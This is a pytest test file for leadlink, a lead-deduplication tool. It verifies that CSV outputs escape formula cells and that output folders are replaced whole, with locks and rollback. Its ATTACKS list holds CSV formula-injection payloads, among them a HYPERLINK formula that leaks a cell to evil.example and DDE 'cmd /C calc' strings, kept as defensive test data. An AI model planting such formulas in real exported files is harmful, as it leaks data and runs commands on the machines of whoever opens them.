"""Outputs safe to open and written whole (issue 20): CSV cells a spreadsheet would run as
formulas are escaped and read back as they were; an output folder holds one run's complete
files, or the previous ones untouched, and is checked before the run starts."""

from __future__ import annotations

import csv
import errno
import hashlib
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from leadlink._outputs import LOCK, MANIFEST, OutputFolder
from leadlink.cli import main
from leadlink.errors import ConfigError, ResourceError
from leadlink.io import escape_cell, read_leads, unescape_cell, write_table

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: Values that must come back exactly: phones and numbers stay unescaped, quotes survive.
VALUES = [
    "+8613800138000",
    "+86 138 0013 8000",
    "-12.5",
    "(010) 8888-6666",
    "-",
    "+",
    "'=SUM(A1)",
    "''@x",
    "'+8613800138000",
    "'plain",
    "张伟",
    "a\rb",
    "x\r\ny",
    'say "hi", then go',
]


def _cells(path: Path) -> list[str]:
    """Every cell of a CSV leadlink wrote, headers included, exactly as a spreadsheet sees it."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _runs_as_formula(cell: str) -> bool:
    return bool(cell) and cell[0] in "=+-@\t\r" and not re.fullmatch(r"[+-]?\d[\d ().-]*", cell)


# -- escaping --------------------------------------------------------------------------


def test_write_table_escapes_formula_cells_and_headers(tmp_path):
    frame = pd.DataFrame({"id": [str(i) for i in range(len(ATTACKS))], "=v": ATTACKS})
    cells = _cells(write_table(frame, tmp_path / "x.csv"))
    assert frame.columns.tolist() == ["id", "=v"] and frame["=v"].tolist() == ATTACKS  # as given
    assert not [cell for cell in cells if _runs_as_formula(cell)]
    assert "'=v" in cells
    assert "'=cmd|' /C calc'!A0" in cells


def test_phones_and_numbers_are_written_as_they_are(tmp_path):
    frame = pd.DataFrame(
        {"phone": ["+8613800138000", "+86 138 0013 8000"], "n": [-5, 3], "x": [-1.5, 0.25]}
    )
    cells = _cells(write_table(frame, tmp_path / "x.csv"))
    assert cells == ["phone", "n", "x", "+8613800138000", "-5", "-1.5", "+86 138 0013 8000", "3", "0.25"]  # fmt: skip


def test_read_leads_gives_back_what_write_table_escaped(tmp_path):
    values = ATTACKS + VALUES
    frame = pd.DataFrame({"lead_id": [f"L{i}" for i in range(len(values))], "=name": values})
    back = read_leads(write_table(frame, tmp_path / "x.csv"))
    assert back.columns.tolist() == ["lead_id", "=name"]
    assert back["=name"].tolist() == values


def test_parquet_is_not_escaped(tmp_path):
    frame = pd.DataFrame({"v": ATTACKS})
    path = write_table(frame, tmp_path / "x.parquet")
    assert pd.read_parquet(path)["v"].tolist() == ATTACKS


@settings(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")))
def test_any_text_round_trips_through_the_escape(value):
    assert unescape_cell(escape_cell(value)) == value
    assert not _runs_as_formula(escape_cell(value))


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.lists(
        st.text(
            st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1
        ),
        min_size=1,
        max_size=5,
    )
)
def test_any_text_round_trips_through_a_file(tmp_path, values):
    frame = pd.DataFrame({"lead_id": [f"L{i}" for i in range(len(values))], "name": values})
    back = read_leads(write_table(frame, tmp_path / "x.csv"))
    assert back["name"].tolist() == values


# -- the output folder -----------------------------------------------------------------


def _files(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.name != LOCK}


def _write(folder: OutputFolder, **files: str) -> None:
    with folder.writing() as staging:
        for name, text in files.items():
            (staging / name).write_text(text, "utf-8")


def test_a_run_writes_its_files_and_a_manifest_of_them(tmp_path):
    out = tmp_path / "a" / "b"
    with OutputFolder(out, command="check") as folder:
        _write(folder, **{"x.csv": "1", "y.csv": "2"})
    assert sorted(p.name for p in out.iterdir()) == sorted([LOCK, MANIFEST, "x.csv", "y.csv"])
    manifest = json.loads((out / MANIFEST).read_text("utf-8"))
    assert manifest["command"] == "check" and manifest["format"] == "leadlink-run"
    assert manifest["files"]["x.csv"]["sha256"] == hashlib.sha256(b"1").hexdigest()


def test_the_previous_run_is_replaced_whole(tmp_path):
    with OutputFolder(tmp_path / "o") as folder:
        _write(folder, **{"old.csv": "old", "both.csv": "old"})
    with OutputFolder(tmp_path / "o") as folder:  # no overwrite needed: all leadlink's
        _write(folder, **{"both.csv": "new", "new.csv": "new"})
    files = _files(tmp_path / "o")
    assert sorted(files) == sorted([MANIFEST, "both.csv", "new.csv"])
    assert files["both.csv"] == b"new"


def test_a_failed_move_puts_the_previous_files_back(tmp_path, monkeypatch):
    with OutputFolder(tmp_path / "o") as folder:
        _write(folder, **{"a.csv": "old a", "b.csv": "old b"})
    before = _files(tmp_path / "o")
    real_replace = os.replace
    calls = []

    def failing(source, target):
        calls.append(target)
        if len(calls) == 5:  # old manifest, a, b moved aside; new a placed; then b fails
            raise OSError(errno.EIO, "Input/output error")
        return real_replace(source, target)

    monkeypatch.setattr(os, "replace", failing)
    with (
        OutputFolder(tmp_path / "o") as folder,
        pytest.raises(ResourceError, match="holds what it held before"),
    ):
        _write(folder, **{"a.csv": "new a", "b.csv": "new b"})
    monkeypatch.setattr(os, "replace", real_replace)
    assert _files(tmp_path / "o") == before
    assert len(calls) > 5  # the rollback ran


def test_a_killed_runs_staging_folder_is_cleared(tmp_path):
    out = tmp_path / "o"
    out.mkdir()
    (out / ".leadlink-tmp-dead").mkdir()
    (out / ".leadlink-tmp-dead" / "half.csv").write_text("half", "utf-8")
    with OutputFolder(out) as folder:
        _write(folder, **{"x.csv": "1"})
    assert sorted(p.name for p in out.iterdir()) == sorted([LOCK, MANIFEST, "x.csv"])


@pytest.mark.parametrize(
    "manifest",
    ["not json", json.dumps({"format": "other", "files": {}}), json.dumps([1])],
)
def test_a_manifest_leadlink_did_not_write_does_not_vouch_for_files(tmp_path, manifest):
    out = tmp_path / "o"
    out.mkdir()
    (out / MANIFEST).write_text(manifest, "utf-8")
    with pytest.raises(ConfigError, match="did not write"):
        OutputFolder(out).claim()


def test_output_folder_errors_in_chinese(tmp_path):
    from leadlink._i18n import set_language

    set_language("zh")
    (tmp_path / "a file").write_text("x", "utf-8")
    with pytest.raises(ConfigError, match="是文件而不是文件夹；请给出文件夹的路径"):
        OutputFolder(tmp_path / "a file").claim()
    out = tmp_path / "o"
    out.mkdir()
    (out / "notes.txt").write_text("mine", "utf-8")
    with pytest.raises(ConfigError, match=r"中有不是 leadlink 写入的文件.*--overwrite"):
        OutputFolder(out).claim()


def test_a_failed_claim_leaves_no_folder_behind(tmp_path):
    out = tmp_path / "new" / "deeper"
    folder = OutputFolder(out)
    folder.claim()
    folder.release()  # nothing written: the run failed
    assert not (tmp_path / "new").exists()


# -- the command line ------------------------------------------------------------------


@pytest.fixture()
def leads_csv(tmp_path, small_leads):
    path = tmp_path / "leads.csv"
    small_leads.drop(columns=["person_id", "is_ghost"]).head(200).to_csv(path, index=False)
    return path


def _dedupe(leads_csv: Path, out: Path, *options: str) -> int:
    return main(["dedupe", str(leads_csv), "--output-dir", str(out), "--quiet", *options])


def test_dedupe_outputs_hold_no_formula_and_read_back_as_values(tmp_path, small_leads):
    leads = small_leads.drop(columns=["person_id", "is_ghost"]).head(200).reset_index(drop=True)
    leads.loc[:6, "company"] = ATTACKS
    leads.loc[7, "phone"] = "+8613800138000"
    path = tmp_path / "evil.csv"
    leads.to_csv(path, index=False, quoting=csv.QUOTE_ALL)  # a bare "\r" needs quotes
    out = tmp_path / "out"
    assert _dedupe(path, out) == 0
    for csv_file in out.glob("*.csv"):
        assert not [c for c in _cells(csv_file) if _runs_as_formula(c)], csv_file.name
    # Read back with leadlink, the values are the leads' own, not quoted ones.
    golden = read_leads(out / "golden_records.csv").set_index("cluster_id")
    clusters = read_leads(out / "clusters.csv").set_index("lead_id")["cluster_id"]
    alone = golden["n_leads"] == "1"
    for lead, company in zip(leads["lead_id"][:7], ATTACKS):
        if alone[clusters[lead]]:
            assert golden.loc[clusters[lead], "company"] == company
    assert alone[clusters[leads["lead_id"][:7]]].sum() >= 3
    assert "+8613800138000" in set(golden["phone"])
    assert main(["check", str(path), "--output-dir", str(tmp_path / "c"), "--quiet"]) == 0
    assert main(["score", str(path), "--output-dir", str(tmp_path / "s"), "--quiet"]) == 0
    for csv_file in [*(tmp_path / "c").glob("*.csv"), *(tmp_path / "s").glob("*.csv")]:
        assert not [c for c in _cells(csv_file) if _runs_as_formula(c)], csv_file.name


def test_dedupe_reads_golden_records_leadlink_wrote(tmp_path, leads_csv):
    out = tmp_path / "out"
    assert _dedupe(leads_csv, out) == 0
    assert main(["dedupe", str(out / "golden_records.csv"), "--id-column", "cluster_id",
                 "--output-dir", str(tmp_path / "again"), "--quiet"]) == 0  # fmt: skip


@pytest.mark.parametrize("command", ["demo", "check", "dedupe", "score"])
def test_an_output_dir_that_is_a_file_exits_2_before_reading(tmp_path, capsys, command):
    afile = tmp_path / "afile"
    afile.write_text("mine", "utf-8")
    # The input does not exist: the output folder is checked first, before any work.
    argv = [command] + ([] if command == "demo" else [str(tmp_path / "missing.csv")])
    assert main([*argv, "--output-dir", str(afile), "--quiet"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "is a file, not a folder" in err
    assert afile.read_text("utf-8") == "mine"


def test_an_output_dir_under_a_file_exits_2(tmp_path, leads_csv, capsys):
    (tmp_path / "afile").write_text("mine", "utf-8")
    assert _dedupe(leads_csv, tmp_path / "afile" / "out") == 2
    assert "cannot write to the output folder" in capsys.readouterr().err


@pytest.mark.skipif(
    sys.platform == "win32" or os.geteuid() == 0, reason="root writes to read-only folders"
)
def test_an_unwritable_output_dir_exits_2(tmp_path, leads_csv, capsys):
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o500)
    try:
        assert _dedupe(leads_csv, locked) == 2
    finally:
        locked.chmod(0o700)
    assert "cannot write to the output folder" in capsys.readouterr().err


def test_an_output_dir_refusing_writes_exits_2_even_for_root(
    tmp_path, leads_csv, capsys, monkeypatch
):
    real_open = os.open

    def refusing(path, *args, **kwargs):
        if str(path).endswith(LOCK):
            raise PermissionError(errno.EACCES, "Permission denied")
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr(os, "open", refusing)
    assert _dedupe(leads_csv, tmp_path / "out") == 2
    err = capsys.readouterr().err
    assert "cannot write to the output folder" in err and "Permission denied" in err
    assert not (tmp_path / "out").exists()


def test_a_folder_another_run_writes_to_exits_2(tmp_path, leads_csv, capsys):
    fcntl = pytest.importorskip("fcntl")
    out = tmp_path / "out"
    out.mkdir()
    with (out / LOCK).open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)
        assert _dedupe(leads_csv, out) == 2
    assert "another leadlink run is writing to" in capsys.readouterr().err
    assert [p.name for p in out.iterdir()] == [LOCK]


def test_files_leadlink_did_not_write_need_overwrite_and_are_kept(tmp_path, leads_csv, capsys):
    out = tmp_path / "out"
    out.mkdir()
    (out / "notes.txt").write_text("mine", "utf-8")
    (out / "clusters.csv").write_text("mine too", "utf-8")
    assert _dedupe(leads_csv, out) == 2
    assert "--overwrite" in capsys.readouterr().err
    assert _dedupe(leads_csv, out, "--overwrite") == 0
    assert (out / "notes.txt").read_text("utf-8") == "mine"  # never removed
    assert (out / "clusters.csv").read_text("utf-8-sig").startswith("lead_id,cluster_id")


def test_a_previous_runs_outputs_are_replaced_without_overwrite(tmp_path, leads_csv):
    out = tmp_path / "out"
    assert main(["check", str(leads_csv), "--output-dir", str(out), "--quiet"]) == 0
    assert _dedupe(leads_csv, out) == 0
    manifest = json.loads((out / MANIFEST).read_text("utf-8"))
    assert manifest["command"] == "dedupe"
    assert sorted(p.name for p in out.iterdir()) == sorted([LOCK, MANIFEST, *manifest["files"]])
    assert "validation.csv" not in manifest["files"]  # the check run's files are gone


def test_an_edited_output_is_not_replaced_without_overwrite(tmp_path, leads_csv, capsys):
    out = tmp_path / "out"
    assert _dedupe(leads_csv, out) == 0
    with (out / "golden_records.csv").open("a", encoding="utf-8") as handle:
        handle.write("my correction\n")
    assert _dedupe(leads_csv, out) == 2
    assert "golden_records.csv" in capsys.readouterr().err
    assert (out / "golden_records.csv").read_text("utf-8").endswith("my correction\n")


def test_links_in_the_output_folder_are_replaced_not_written_through(tmp_path, leads_csv):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious", "utf-8")
    out = tmp_path / "out"
    out.mkdir()
    (out / "golden_records.csv").symlink_to(victim)
    (out / LOCK).symlink_to(victim)
    assert _dedupe(leads_csv, out) == 2  # a link is not leadlink's output
    assert _dedupe(leads_csv, out, "--overwrite") == 0
    assert victim.read_text("utf-8") == "precious"
    for name in ("golden_records.csv", LOCK):
        assert not (out / name).is_symlink(), name
    assert read_leads(out / "golden_records.csv")["cluster_id"].notna().all()


def test_a_failed_write_leaves_the_previous_outputs_untouched(
    tmp_path, leads_csv, capsys, monkeypatch
):
    from leadlink.match import LeadModel

    out = tmp_path / "out"
    assert _dedupe(leads_csv, out) == 0
    before = _files(out)

    def disk_full(self, path):
        Path(path).write_text("{half", "utf-8")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(LeadModel, "save", disk_full)
    assert _dedupe(leads_csv, out, "--threshold", "0.99") == 2
    err = capsys.readouterr().err
    assert "No space left on device" in err and "holds what it held before" in err
    assert _files(out) == before  # no new CSV beside the old model.json, no partial file

    def broken(*args, **kwargs):
        raise RuntimeError("a bug")

    monkeypatch.setattr("leadlink.io.write_table", broken)
    assert _dedupe(leads_csv, out, "--threshold", "0.99") == 1
    assert _files(out) == before


def test_a_failed_run_leaves_no_output_folder(tmp_path):
    out = tmp_path / "out"
    assert _dedupe(tmp_path / "missing.csv", out) == 2
    assert not out.exists()


def test_the_summary_counts_what_review_csv_holds(tmp_path, capsys):
    """The CLI said "114 to review" while review.csv had 115 rows (one per cluster and
    reason): it now gives both numbers, each matching the file (review_all.csv since the
    review queue took review.csv's name), and the queue's items beside them."""
    from leadlink.datasets import load_sample

    path = tmp_path / "sample.csv"
    load_sample().drop(columns=["person_id", "is_ghost"]).to_csv(path, index=False)
    assert _dedupe(path, tmp_path / "out", "--review-size", "3") == 0
    printed = capsys.readouterr().out
    found = re.search(r"(\d+) clusters to review, in (\d+) rows", printed)
    assert found is not None, printed
    review = read_leads(tmp_path / "out" / "review_all.csv")
    assert int(found.group(1)) == review["cluster_id"].nunique()
    assert int(found.group(2)) == len(review)
    assert len(review) > review["cluster_id"].nunique()  # the sample has a cluster with two reasons
    queued = re.search(r"review\.csv: (\d+) of (\d+) review items queued", printed)
    assert queued is not None, printed
    queue = read_leads(tmp_path / "out" / "review.csv")
    assert int(queued.group(1)) == len(queue) == 3
    left = int(queued.group(2)) - 3
    assert f"{left} left out" in printed


@pytest.mark.slow
def test_two_concurrent_demo_runs_leave_one_complete_run(tmp_path):
    """Two real processes into one folder: each exits 0 or 2, and the folder holds exactly
    one run's files, each complete and readable."""
    out = tmp_path / "same"
    argv = [sys.executable, "-m", "leadlink", "demo", "--output-dir", str(out), "--quiet"]
    runs = [
        subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE) for _ in range(2)
    ]
    results = [(run.wait(), run.communicate()[1].decode()) for run in runs]
    codes = sorted(code for code, _ in results)
    assert set(codes) <= {0, 2} and 0 in codes, results
    for code, err in results:
        if code == 2:
            assert "another leadlink run is writing to" in err
    manifest = json.loads((out / MANIFEST).read_text("utf-8"))
    names = set(manifest["files"])
    assert names == {"clusters.csv", "golden_records.csv", "lineage.csv", "conflicts.csv",
                     "review.csv", "review_all.csv", "pairs.parquet", "pairs.csv",
                     "model.json"}  # fmt: skip
    assert {p.name for p in out.iterdir()} == names | {MANIFEST, LOCK}
    for name, entry in manifest["files"].items():
        assert hashlib.sha256((out / name).read_bytes()).hexdigest() == entry["sha256"], name
    for name in names - {"pairs.parquet", "model.json"}:
        assert len(read_leads(out / name)) > 0, name
    assert len(pd.read_parquet(out / "pairs.parquet")) > 0
    assert json.loads((out / "model.json").read_text("utf-8"))["format"] == "leadlink-model"
